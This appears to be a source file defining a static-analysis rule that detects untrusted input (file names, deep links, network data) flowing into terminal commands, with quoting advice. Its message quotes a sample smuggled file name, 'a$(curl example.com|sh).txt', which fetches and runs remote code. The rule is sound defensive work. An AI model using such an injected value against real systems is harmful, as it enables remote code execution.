import { flowReports } from '../../core/flow-rule.js';
import { defineRule } from '../../core/rule.js';
import type {} from '../../frameworks/common/model.js';

export default defineRule({
  id: 'common/terminal-injection',
  title: 'Names of others are typed into a shell',
  category: 'injection',
  severity: 'high',
  confidence: 'high',
  cwe: [78, 150],
  versions: 'all',

  *check({ common }) {
    yield* flowReports(common.flows, { from: ['drop', 'remote-name', 'deep-link', 'message', 'network'], to: ['terminal'], severity: 'high' }, (flow, from) =>
      `What comes from ${from} is typed into a terminal: it reaches '${flow.sink.what}'. A file may be called 'a$(curl example.com|sh).txt', and a line break starts what stands before it; double quotes keep neither from the shell. Put it in single quotes with those in it escaped, as the shell at hand wants it, and refuse control characters.`);
  },
});
